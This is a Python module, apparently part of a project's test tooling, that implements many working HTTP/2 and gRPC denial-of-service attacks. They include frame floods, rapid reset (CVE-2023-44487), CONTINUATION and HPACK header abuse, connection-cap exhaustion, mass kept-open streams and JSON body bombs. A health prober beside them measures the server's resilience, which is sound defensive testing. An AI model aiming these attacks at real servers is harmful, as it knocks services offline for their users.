"""Attacks on an HTTP/2 gRPC server, and a healthy client probing it beside them.

Each attack is what a peer on the cluster network could send to the service's gRPC port:
floods of frames that ask work and serve nothing, rapid reset, header blocks at the limit,
bodies in tiny frames, idle and half-sent connections, streams kept open. Each runs for a
bounded time (and a bounded count of connections), from its own process so that it does not
share a GIL with the prober: ``python -m devstack.h2attacks NAME HOST PORT SECONDS``.

``Prober`` checks gRPC health every 20 ms and records each answer's latency, or its loss.
The tests (tests/transport/test_attacks.py) assert that no probe is lost; ``make bench``
(bench/attacks.py) writes down the p99 and what each attack cost the server.
"""

from __future__ import annotations

import os
import selectors
import socket
import struct
import subprocess
import sys
import threading
import time
from typing import Callable

import grpc
import hpack
from grpc_health.v1 import health_pb2, health_pb2_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "POST"), (":scheme", "http"), (":path", "/grpc.health.v1.Health/Check"),
           (":authority", "attack"), ("content-type", "application/grpc"), ("te", "trailers")]
PROBE_EVERY = 0.02
FRESH_EVERY = 0.5  # seconds between the checks that each open a connection of their own
PARALLEL = 4  # connections per flood (sendall lets go of the GIL: they do run at once)


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I B I", (len(payload) << 8) | kind, flags, sid) + payload


SETTINGS_ACK = frame(4, 1, 0)
OPENING = PREFACE + frame(4, 0, 0) + SETTINGS_ACK


# The attacker's own loopback address (the ATTACK_SOURCE environment variable, "" = the
# kernel's choice): a real attacker is another peer than the Envoy it tries to lock out.
SOURCE = os.environ.get("ATTACK_SOURCE", "")


def _connect(host: str, port: int) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=5,
                                    source_address=(SOURCE, 0) if SOURCE else None)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _drain(sock: socket.socket) -> None:
    """Read and drop what the server says (so that the attack is not slowed by our window)."""
    def run() -> None:
        try:
            while sock.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=run, daemon=True).start()


def _repeat(host: str, port: int, seconds: float, batch: Callable[[int], bytes],
            read: bool = True, parallel: int = PARALLEL) -> None:
    """Send ``batch(i)`` over and over on ``parallel`` connections at once (a new one when the
    server cuts one); ``batch(0)`` opens each connection's part."""
    threads = [threading.Thread(target=_repeat_one, args=(host, port, seconds, batch, read))
               for _ in range(parallel)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _repeat_one(host: str, port: int, seconds: float, batch: Callable[[int], bytes],
                read: bool) -> None:
    deadline = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < deadline and connections < 200:
        connections += 1
        try:
            sock = _connect(host, port)
        except OSError:
            time.sleep(0.01)
            continue
        try:
            if read:
                _drain(sock)
            sock.sendall(OPENING)
            i = 0
            while time.monotonic() < deadline:
                sock.sendall(batch(i))
                i += 1
        except OSError:
            time.sleep(0.01)  # cut: the server's answer to a flood; come back
        finally:
            sock.close()


def _headers(encoder: hpack.Encoder, sid: int, extra: list | None = None,
             end: bool = False) -> bytes:
    block = encoder.encode(REQUEST + (extra or []))
    return frame(1, 0x4 | (0x1 if end else 0), sid, block)


# The request's header block as a fresh connection's first stream says it (literals that
# enter the dynamic table), and as every later stream does (indexed): built once, so that
# the attacker spends its time sending, not encoding.
_ENCODER = hpack.Encoder()
FIRST_BLOCK, LATER_BLOCK = _ENCODER.encode(REQUEST), _ENCODER.encode(REQUEST)


def _streams(i: int, count: int, per_stream: Callable[[int], bytes]) -> bytes:
    """Batch ``i`` of ``count`` streams on a connection: HEADERS then ``per_stream(sid)``."""
    first = 1 + 2 * count * i
    return b"".join(frame(1, 0x4, sid, FIRST_BLOCK if sid == 1 else LATER_BLOCK)
                    + per_stream(sid) for sid in range(first, first + 2 * count, 2))


def flood(frame_bytes: bytes, count: int = 1000) -> Callable[[str, int, float], None]:
    """An attack sending ``frame_bytes`` ``count`` times per write."""
    batch = frame_bytes * count
    return lambda host, port, seconds: _repeat(host, port, seconds, lambda i: batch)


def rapid_reset(host: str, port: int, seconds: float) -> None:
    """HEADERS then RST_STREAM, stream after stream (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    _repeat(host, port, seconds,
            lambda i: _streams(i, 200, lambda sid: frame(3, 0, sid, cancel)))


def empty_continuations(host: str, port: int, seconds: float) -> None:
    """A HEADERS frame without END_HEADERS, then empty CONTINUATION frames without end."""
    empties = frame(9, 0, 1) * 1000
    _repeat(host, port, seconds,
            lambda i: (frame(1, 0, 1, FIRST_BLOCK) if i == 0 else b"") + empties)


def big_header_blocks(host: str, port: int, seconds: float) -> None:
    """Streams whose header blocks sit at the limit, each one's values new (no cache hit)."""
    state = {"sid": 1}

    def batch(i: int) -> bytes:
        if i == 0:
            state["sid"] = 1
        sid = state["sid"]
        state["sid"] = sid + 2
        filler = [(f"x-{n}", f"{sid}-{n}-" + "v" * 900) for n in range(14)]
        return _headers(hpack.Encoder(), sid, filler, end=True)
    _repeat(host, port, seconds, batch)


def indexed_field_blocks(host: str, port: int, seconds: float) -> None:
    """30 connections, each sending 64 header blocks a write of ~1,500 one-byte indexed fields
    (``:path: /`` from the static table): a header list tiny in bytes, huge in entries, each
    block made new by a literal field that names its stream (no remembered block)."""
    fields = b"\x84" * 1500

    def batch(i: int) -> bytes:
        first = 1 + 2 * 64 * i
        return b"".join(frame(1, 0x5, sid, fields + _literal(b"x-n", b"%d" % sid))
                        for sid in range(first, first + 2 * 64, 2))
    _repeat(host, port, seconds, batch, parallel=30)


def _literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal field without indexing, a new name (RFC 7541 §6.2.2), short strings."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _message(size: int) -> bytes:
    return struct.pack(">BI", 0, size) + b"\xff" * size  # no protobuf: answered INTERNAL


def _body(message: bytes, step: int) -> Callable[[int], bytes]:
    """A stream's DATA: ``message`` in frames of ``step`` bytes, the last one ending it
    (built once per stream id's low bits: the frames differ only in their stream id)."""
    def data(sid: int) -> bytes:
        return b"".join(frame(0, 0x1 if at + step >= len(message) else 0, sid,
                              message[at:at + step]) for at in range(0, len(message), step))
    return data


def tiny_frames(host: str, port: int, seconds: float) -> None:
    """A 256 KiB message in one-byte DATA frames, stream after stream."""
    _repeat(host, port, seconds, lambda i: _streams(i, 1, _body(_message(256 << 10), 1)))


def large_bodies(host: str, port: int, seconds: float) -> None:
    """16 MiB messages in 16 KiB frames: legitimate, only large."""
    _repeat(host, port, seconds, lambda i: _streams(i, 1, _body(_message(16 << 20), 16 << 10)))


def _hold(host: str, port: int, seconds: float, count: int, opening: Callable[[], bytes],
          ) -> None:
    """``count`` connections, each sent ``opening()`` and then kept, silent, for ``seconds``."""
    kept = []
    deadline = time.monotonic() + seconds
    for _ in range(count):
        if time.monotonic() >= deadline:
            break
        try:
            sock = _connect(host, port)
            sock.sendall(opening())
            kept.append(sock)
        except OSError:
            break  # the cap: past it the server closes what we open
    time.sleep(max(0.0, deadline - time.monotonic()))
    for sock in kept:
        sock.close()


def idle_connections(host: str, port: int, seconds: float) -> None:
    """800 connections that never say a word."""
    _hold(host, port, seconds, 800, lambda: b"")


def _keep(host: str, port: int, seconds: float, openings: list[bytes]) -> None:
    """One connection per entry of ``openings``, each sent it and then kept, silent, for
    ``seconds``: one the server closes is opened again (at most 10 times over in all), as an
    attacker racing a well-behaved client for the connection cap does."""
    selector = selectors.DefaultSelector()
    deadline = time.monotonic() + seconds
    budget = 10 * len(openings)

    def open_one(opening: bytes) -> None:
        nonlocal budget
        budget -= 1
        try:
            sock = _connect(host, port)
            sock.sendall(opening)
            sock.setblocking(False)
            selector.register(sock, selectors.EVENT_READ, opening)
        except OSError:
            time.sleep(0.01)
    for opening in openings:
        if time.monotonic() < deadline:
            open_one(opening)
    while (left := deadline - time.monotonic()) > 0:
        for key, _ in selector.select(min(left, 0.1)):
            try:
                alive = key.fileobj.recv(1 << 16)  # type: ignore[union-attr]
            except BlockingIOError:
                continue
            except OSError:
                alive = b""
            if not alive:
                selector.unregister(key.fileobj)
                key.fileobj.close()  # type: ignore[union-attr]
                if budget > 0:
                    open_one(key.data)
    for key in list(selector.get_map().values()):
        key.fileobj.close()  # type: ignore[union-attr]


def idle_at_cap(host: str, port: int, seconds: float) -> None:
    """2,000 connections that never send a preface and 2,000 that stop after it, reopened when
    closed: past --max-connections (1,000) unless the server chooses whom to let go."""
    _keep(host, port, seconds, [b""] * 2000 + [OPENING] * 2000)


def silent_at_cap(host: str, port: int, seconds: float) -> None:
    """4,500 connections that never send a preface, reopened when closed."""
    _keep(host, port, seconds, [b""] * 4500)


def half_frames(host: str, port: int, seconds: float) -> None:
    """300 connections, each with a 16 KiB DATA frame sent but its last byte."""
    _hold(host, port, seconds, 300,
          lambda: OPENING + frame(0, 0, 1, b"\0" * (16 << 10))[:-1])


def kept_streams(count: int, connections: int = 1) -> Callable[[str, int, float], None]:
    """An attack opening ``count`` streams over ``connections`` connections (HEADERS only,
    100 a write), keeping them open for its time, then closing the connections."""
    def attack(host: str, port: int, seconds: float) -> None:
        deadline = time.monotonic() + seconds
        socks = []
        try:
            for _ in range(connections):
                socks.append(_connect(host, port))
                _drain(socks[-1])
                socks[-1].sendall(OPENING)
            for i in range(count // 100 // connections):
                for sock in socks:
                    sock.sendall(_streams(i, 100, lambda sid: b""))
            time.sleep(max(0.0, deadline - time.monotonic()))
        except OSError:
            pass
        finally:
            for sock in socks:
                sock.close()
    return attack


def bad_messages(host: str, port: int, seconds: float) -> None:
    """Whole requests whose message does not parse, as fast as answered."""
    body = _message(64)
    _repeat(host, port, seconds, lambda i: _streams(i, 50, lambda sid: frame(0, 0x1, sid, body)))


_PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
# A Process stream's header block on a fresh connection (its encoder's table is empty)
PROCESS_BLOCK = hpack.Encoder().encode([(k, _PROCESS if k == ":path" else v)
                                        for k, v in REQUEST])


def silent_streams(host: str, port: int, seconds: float) -> None:
    """900 connections, each with one ext_proc stream opened and never a message on it."""
    _hold(host, port, seconds, 900, lambda: OPENING + frame(1, 0x4, 1, PROCESS_BLOCK))


def bomb_message(size: int) -> bytes:
    """A one-message ext_proc request whose JSON body holds ``size`` bytes of empty objects
    before its model (all of it must be read to find the model)."""
    from envoy.service.ext_proc.v3 import external_processor_pb2 as ep

    from extproc.protocol.request import ATTRIBUTES_KEY
    body = b'{"x": [' + b"{}," * (size // 3) + b'{}], "model": "judge"}'
    message = ep.ProcessingRequest(request_body=ep.HttpBody(body=body, end_of_stream=True))
    message.attributes[ATTRIBUTES_KEY].update({
        "request.method": "POST", "request.path": "/v1/chat/completions",
        "request.headers['content-type']": "application/json"})
    return message.SerializeToString()


def body_bombs(host: str, port: int, seconds: float) -> None:
    """24 MiB JSON bodies of small values, one after another, each waiting for its answer."""
    import grpc
    message = bomb_message(24 << 20)
    options = [("grpc.max_send_message_length", 64 << 20),
               ("grpc.max_receive_message_length", 64 << 20)]
    deadline = time.monotonic() + seconds
    with grpc.insecure_channel(f"{host}:{port}", options=options) as channel:
        process = channel.stream_stream(_PROCESS, request_serializer=None,
                                        response_deserializer=None)
        for _ in range(3):
            next(iter(process(iter([message]), timeout=120)))
            if time.monotonic() >= deadline:
                break


ATTACKS: dict[str, Callable[[str, int, float], None]] = {
    "settings-flood": flood(frame(4, 0, 0)),
    "window-update-flood": flood(frame(8, 0, 0, struct.pack(">I", 1))),
    "ping-flood": flood(frame(6, 0, 0, b"12345678")),
    "priority-flood": flood(frame(2, 0, 3, struct.pack(">IB", 1, 16))),
    "unknown-frame-flood": flood(frame(0xEE, 0, 0, b"x")),
    "settings-many-entries": flood(frame(4, 0, 0, struct.pack(">HI", 4, 65535) * 2730), 10),
    "empty-continuations": empty_continuations,
    "rapid-reset": rapid_reset,
    "big-header-blocks": big_header_blocks,
    "indexed-field-blocks": indexed_field_blocks,
    "tiny-frames": tiny_frames,
    "large-bodies": large_bodies,
    "idle-connections": idle_connections,
    "idle-at-cap": idle_at_cap,
    "silent-at-cap": silent_at_cap,
    "half-frames": half_frames,
    "many-streams": kept_streams(20_000),
    "fifty-thousand-streams": kept_streams(50_000),
    "fifty-thousand-streams-spread": kept_streams(50_000, connections=100),
    "bad-messages": bad_messages,
    "silent-streams": silent_streams,
    "body-bombs": body_bombs,
}


# Connections each busy with a stream are not the cap's to close: what keeps room for a healthy
# peer there is the per-peer share, so these attacks come from another loopback address.
OTHER_PEER = {"silent-streams": "127.0.0.2"}


def launch(name: str, host: str, port: int, seconds: float) -> subprocess.Popen:
    """Start one attack in a process of its own."""
    return subprocess.Popen([sys.executable, "-m", "devstack.h2attacks", name, host,
                             str(port), str(seconds)],
                            env={**os.environ, "ATTACK_SOURCE": OTHER_PEER.get(name, "")},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class Prober:
    """A healthy gRPC client checking health every 20 ms in a thread: latencies and losses;
    and beside it, every half second, a check on a connection of its own (as Envoy's
    reconnecting): how many of those got in."""

    def __init__(self, target: str, timeout: float = 5.0) -> None:
        self.target, self.timeout = target, timeout
        self.latencies: list[float] = []
        self.lost: list[str] = []
        self.fresh_ok = 0
        self.fresh_failed: list[str] = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True),
                         threading.Thread(target=self._fresh, daemon=True)]

    def __enter__(self) -> "Prober":
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._stop.set()
        for thread in self._threads:
            thread.join(self.timeout + 5)

    def _fresh(self) -> None:
        while not self._stop.wait(FRESH_EVERY):
            # a channel of its own subchannel pool: a new TCP connection, not a shared one
            with grpc.insecure_channel(self.target, options=[
                    ("grpc.use_local_subchannel_pool", 1)]) as channel:
                try:
                    health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(),
                                                              timeout=self.timeout)
                    self.fresh_ok += 1
                except grpc.RpcError as exc:
                    self.fresh_failed.append(str(exc.code()))  # type: ignore[attr-defined]

    def _run(self) -> None:
        with grpc.insecure_channel(self.target) as channel:
            stub = health_pb2_grpc.HealthStub(channel)
            try:
                stub.Check(health_pb2.HealthCheckRequest(), timeout=self.timeout)  # connected
            except grpc.RpcError as exc:
                self.lost.append(str(exc.code()))  # type: ignore[attr-defined]
            while not self._stop.is_set():
                began = time.monotonic()
                try:
                    stub.Check(health_pb2.HealthCheckRequest(), timeout=self.timeout)
                    self.latencies.append(time.monotonic() - began)
                except grpc.RpcError as exc:
                    self.lost.append(str(exc.code()))  # type: ignore[attr-defined]
                self._stop.wait(PROBE_EVERY)

    def p99(self) -> float:
        """The 99th percentile latency in seconds (0 without answers)."""
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] if ordered else 0.0


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
